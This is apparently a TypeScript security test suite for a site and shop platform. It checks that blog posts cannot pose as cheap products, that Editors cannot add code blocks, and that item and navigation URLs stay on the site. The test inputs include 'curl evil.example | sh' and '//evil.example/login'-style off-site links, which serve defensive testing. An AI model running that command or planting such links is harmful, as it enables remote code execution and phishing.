/**
 * One definition of a product (issue 29): an Editor saved a blog post with a real SKU, title and
 * options at 1¢ through `PUT /api/merchant/items/{id}` and a shopper bought it. Replayed here: product
 * fields outside a products collection are refused at every save (any role, any call, imports too),
 * the cart, restock sign-ups and stock lookups take nothing that is not a product even when such an
 * item is already stored, an Editor's code block is refused on the generic item call as on the
 * console's, and an item's fullUrl is a path of this site (never `//host`).
 */
import { env } from 'cloudflare:workers';
import { runInDurableObject } from 'cloudflare:test';
import { beforeAll, describe, expect, it } from 'vitest';
import { CART_MESSAGES } from '../../src/commerce/cart';
import { writeItem } from '../../src/durable/content-tables';
import { hashPassword } from '../../src/durable/passwords';
import { RESTOCK_MESSAGES } from '../../src/routes/shop/restock';
import type { SiteContent } from '../../src/durable/site-content';
import { contentObject } from '../../src/site/catalog';
import { CODE_INJECTION_MESSAGES } from '../../src/site/code-injection';
import { demoSite } from '../../src/site/demo';
import { ROLES } from '../../src/site/roles';
import { PRODUCT_MESSAGES } from '../../src/site/editor/product-form';
import { ITEM_PROBLEMS, type Item } from '../../src/site/schema';
import { exportSite, publishSite } from '../../src/site/store';
import { demoStoreOnHost } from '../worker/demo-on-host';
import { Visitor } from '../worker/visitor';

const TIMEOUT = 60_000;
const RESTOCK_PATH = '/api/site-users/account/notifications/restock';
const account = (role: number) => ({ email: `product-${role}@example.com`, password: `product-${role}-password` });
let store: { origin: string; websiteId: string };

async function signInAs(role: number): Promise<Visitor> {
  const visitor = await new Visitor(store.origin).open('/contact');
  expect((await visitor.json('POST', '/api/merchant/session', account(role))).status).toBe(200);
  return visitor;
}

const version = async () => Number(await env.SITE_CONTENT.get(`site:${store.websiteId}:version`));

async function storedItem(id: string): Promise<Item | undefined> {
  return (await exportSite(env, store.websiteId))?.items.find((item) => item.id === id);
}

/** The Linen Shirt's product fields at 1¢ on the blog's first post: the finding's payload. */
async function fakeProductPost(): Promise<{ post: Item; shirt: Item }> {
  const items = (await exportSite(env, store.websiteId))?.items ?? [];
  const shirt = items.find((item) => item.urlId === 'linen-shirt') as Item;
  const post = items.find((item) => item.collectionId === 'c-blog') as Item;
  const cheap = { value: '0.01', currency: 'USD' };
  const variants = shirt.structuredContent!.variants.map((v) => ({ ...v, price: 1, priceMoney: cheap, onSale: false }));
  return { post: { ...post, title: shirt.title, structuredContent: { ...shirt.structuredContent!, variants } }, shirt };
}

/** Data written before the rule existed: straight into the object's tables, past every check. */
async function plant(item: Item): Promise<void> {
  await runInDurableObject(
    contentObject(env, store.websiteId) as unknown as DurableObjectStub<SiteContent>,
    async (_instance, state) => {
      writeItem(state.storage.sql, item);
    },
  );
}

beforeAll(async () => {
  store = await demoStoreOnHost('security', 'product-definition');
  const team = env.MERCHANTS.get(env.MERCHANTS.idFromName(store.websiteId));
  for (const role of [ROLES.admin, ROLES.editor])
    await team.ensureMember(account(role).email, await hashPassword(account(role).password), [role]);
}, TIMEOUT);

describe('an item outside a products collection is never a product', () => {
  it(
    "refuses an Editor's blog post carrying a product's fields at 1¢ (PUT /api/merchant/items/{id}) with a 400, and the owner's too; nothing is saved",
    async () => {
      const { post } = await fakeProductPost();
      const before = await version();
      for (const role of [ROLES.editor, ROLES.admin]) {
        const merchant = await signInAs(role);
        const res = await merchant.json('PUT', `/api/merchant/items/${post.id}`, post);
        expect(res, `role ${role}`).toEqual({
          status: 400,
          body: {
            error: `Invalid site content: items.${post.id}.structuredContent: ${ITEM_PROBLEMS.productFieldsOutsideProducts}`,
          },
        });
        const asProduct = await merchant.json('PUT', `/api/merchant/items/${post.id}`, {
          ...post,
          structuredContent: undefined,
          recordType: 11,
        });
        expect(asProduct, `role ${role}`).toEqual({
          status: 400,
          body: {
            error: `Invalid site content: items.${post.id}.recordType: ${ITEM_PROBLEMS.productRecordOutsideProducts}`,
          },
        });
      }
      expect(await version()).toBe(before);
      expect((await storedItem(post.id))?.structuredContent).toBeUndefined();
      // The Editor still edits posts: the same post without product fields saves.
      const editor = await signInAs(ROLES.editor);
      const { structuredContent: _fields, ...plain } = post;
      expect(await editor.json('PUT', `/api/merchant/items/${post.id}`, plain)).toEqual({
        status: 200,
        body: { changed: true },
      });
    },
    TIMEOUT,
  );

  it('refuses product fields outside a products collection in a published or imported site', async () => {
    const site = demoSite();
    site.website.id = 'security-product-import';
    const post = site.items.find((item) => item.collectionId === 'c-blog')!;
    const shirt = site.items.find((item) => item.urlId === 'linen-shirt')!;
    post.structuredContent = shirt.structuredContent;
    const at = site.items.indexOf(post);
    expect(await publishSite(env, site)).toEqual({
      error: `Invalid site content: items.${at}.structuredContent: ${ITEM_PROBLEMS.productFieldsOutsideProducts}`,
    });
    expect(await exportSite(env, site.website.id)).toBeNull();
  });

  it(
    'sells nothing the product definition does not call a product, even when such an item is already stored',
    async () => {
      const { post } = await fakeProductPost();
      const planted = { ...post, id: 'b-planted', urlId: 'planted' } as Item;
      await plant(planted);
      const shopper = await new Visitor(store.origin).open();
      const sku = planted.structuredContent!.variants[0]!.sku;
      const add = await shopper.json('POST', '/api/commerce/shopping-cart/entries', {
        itemId: planted.id,
        sku,
        quantity: 3,
      });
      expect(add).toEqual({ status: 400, body: { error: CART_MESSAGES.itemNotFound } });
      expect(
        (await shopper.json<{ entries: unknown[] }>('GET', '/api/commerce/shopping-cart')).body.entries ?? [],
      ).toEqual([]);
      // The console saves such a post as a post: its product fields go.
      const editor = await signInAs(ROLES.editor);
      const edited = {
        title: 'Planted',
        body: '<p>Now a post</p>',
        excerpt: '',
        tags: [],
        categories: [],
        status: 'published',
        publishOn: 0,
        assetUrl: null,
      };
      expect((await editor.json('PUT', `/api/console/posts/${planted.id}`, edited)).status).toBe(200);
      expect((await storedItem(planted.id))?.structuredContent).toBeUndefined();
    },
    TIMEOUT,
  );

  it(
    'takes no restock sign-up and tells no stock for an item the product definition does not call a product, even when such an item is already stored',
    async () => {
      const items = (await exportSite(env, store.websiteId))?.items ?? [];
      const mug = items.find((item) => item.urlId === 'ceramic-mug') as Item;
      const post = items.find((item) => item.collectionId === 'c-blog') as Item;
      const planted = {
        ...post,
        id: 'b-planted-mug',
        urlId: 'planted-mug',
        title: mug.title,
        structuredContent: mug.structuredContent,
      } as Item;
      await plant(planted);
      const shopper = await new Visitor(store.origin).open();
      const variantId = mug.structuredContent!.variants[0]!.id;
      const signUp = {
        variantId,
        siteVisitorEmail: 'reader@example.com',
        recaptchaEnterpriseV3Token: 'local:product_waitlist:0123456789abcdef',
      };
      expect(await shopper.json('POST', RESTOCK_PATH, { ...signUp, productId: planted.id })).toEqual({
        status: 404,
        body: { error: RESTOCK_MESSAGES.unknownVariant },
      });
      expect(await shopper.json('GET', `/api/commerce/inventory/stock/?itemId=${planted.id}`)).toEqual({
        status: 404,
        body: { error: CART_MESSAGES.itemNotFound },
      });
      // The sold-out mug itself, a product, still takes both.
      expect(await shopper.json('POST', RESTOCK_PATH, { ...signUp, productId: mug.id })).toEqual({
        status: 200,
        body: { signedUp: true, created: true },
      });
      expect((await shopper.json('GET', `/api/commerce/inventory/stock/?itemId=${mug.id}`)).status).toBe(200);
    },
    TIMEOUT,
  );
  it(
    'does not open, save, copy or delete such a stored item as a product in the console (/api/console/products/{id})',
    async () => {
      const { post, shirt } = await fakeProductPost();
      const planted = { ...post, id: 'b-planted-console', urlId: 'planted-console', recordType: 11 } as Item;
      await plant(planted);
      const admin = await signInAs(ROLES.admin);
      const unknown = { status: 404, body: { error: PRODUCT_MESSAGES.unknownProduct } };
      const form = (await admin.json<{ product: unknown }>('GET', `/api/console/products/${shirt.id}`)).body.product;
      expect(await admin.json('GET', `/api/console/products/${planted.id}`)).toEqual(unknown);
      expect(await admin.json('PUT', `/api/console/products/${planted.id}`, form)).toEqual(unknown);
      expect(await admin.json('POST', `/api/console/products/${planted.id}/duplicate`, {})).toEqual(unknown);
      expect(await admin.json('DELETE', `/api/console/products/${planted.id}`, {})).toEqual(unknown);
      expect((await storedItem(planted.id))?.title).toBe(planted.title);
    },
    TIMEOUT,
  );
});

describe('every item save keeps code blocks to the code-injection roles', () => {
  it(
    "refuses an Editor's code block through PUT /api/merchant/items/{id}, as the console does; an administrator may add it",
    async () => {
      const { post } = await fakeProductPost();
      const { structuredContent: _fields, ...plain } = post;
      const withCode = { ...plain, body: '<p>Try</p><pre><code>curl evil.example | sh</code></pre>' };
      const before = await version();
      const editor = await signInAs(ROLES.editor);
      expect(await editor.json('PUT', `/api/merchant/items/${post.id}`, withCode)).toEqual({
        status: 403,
        body: { error: CODE_INJECTION_MESSAGES.codeBlocks },
      });
      expect(await version()).toBe(before);
      expect((await storedItem(post.id))?.body).not.toContain('<pre>');
      const admin = await signInAs(ROLES.admin);
      expect((await admin.json('PUT', `/api/merchant/items/${post.id}`, withCode)).status).toBe(200);
      // Now the Editor may neither change nor remove it, through either call.
      expect(
        (await editor.json('PUT', `/api/merchant/items/${post.id}`, { ...withCode, body: '<p>Gone</p>' })).status,
      ).toBe(403);
      expect((await editor.json('DELETE', `/api/merchant/items/${post.id}`)).status).toBe(403);
      expect(
        (await editor.json('PUT', `/api/merchant/items/${post.id}`, { ...withCode, title: 'Retitled' })).status,
      ).toBe(200);
    },
    TIMEOUT,
  );
});

describe("an item's fullUrl is a path of this site", () => {
  it(
    'refuses //host and /\\host, which browsers read as another host',
    async () => {
      const { post } = await fakeProductPost();
      const { structuredContent: _fields, ...plain } = post;
      const admin = await signInAs(ROLES.admin);
      for (const fullUrl of ['//evil.example/login', '/\\evil.example/login']) {
        const res = await admin.json('PUT', `/api/merchant/items/${post.id}`, { ...plain, fullUrl });
        expect(res.status, fullUrl).toBe(400);
        expect(res.body, fullUrl).toMatchObject({
          error: expect.stringContaining(`items.${post.id}.fullUrl: must be a site path starting with a single /`),
        });
      }
      expect((await storedItem(post.id))?.fullUrl).toBe(post.fullUrl);
    },
    TIMEOUT,
  );

  it(
    'refuses a navigation link to //host through the navigation call (one definition of a site path)',
    async () => {
      const admin = await signInAs(ROLES.admin);
      const navigation = (url: string) => ({
        fieldName: 'main',
        templateId: 't',
        navigation: {
          items: [
            { title: 'Shop', collectionId: 'c-shop' },
            { title: 'Sign in', url },
          ],
        },
      });
      const before = await version();
      for (const url of ['//evil.example/login', '/\\evil.example/login']) {
        const res = await admin.json('POST', '/api/widget/UpdateNavigation', navigation(url));
        expect(res.status, url).toBe(400);
      }
      expect(await version()).toBe(before);
      expect((await admin.json('POST', '/api/widget/UpdateNavigation', navigation('/contact'))).status).toBe(200);
    },
    TIMEOUT,
  );
});

describe('one current price and one "never runs out" for every reader', () => {
  it(
    'sorts a digital product by its own current price in a listing (it had none, so it came last)',
    async () => {
      const shopper = await new Visitor(store.origin).open();
      const page = await (await shopper.fetch('/shop?sort=price-asc')).text();
      expect(page).toContain('/shop/p/recipe-ebook');
      expect(page.indexOf('/shop/p/recipe-ebook')).toBeLessThan(page.indexOf('/shop/p/canvas-tote'));
    },
    TIMEOUT,
  );

  it(
    'never shows a paywall product (type 5) sold out: it has no stock to run out of',
    async () => {
      const paywall = await demoStoreOnHost('security', 'paywall', (site) => {
        const ebook = site.items.find((item) => item.urlId === 'recipe-ebook')!;
        ebook.structuredContent!.productType = 5;
      });
      const shopper = await new Visitor(paywall.origin).open();
      const itemClass = async (path: string) =>
        /<article class="(ProductItem[^"]*)"/.exec(await (await shopper.fetch(path)).text())?.[1];
      expect(await itemClass('/shop/p/recipe-ebook')).toBe('ProductItem on-sale');
      expect(await itemClass('/shop/p/ceramic-mug')).toBe('ProductItem sold-out');
    },
    TIMEOUT,
  );
});
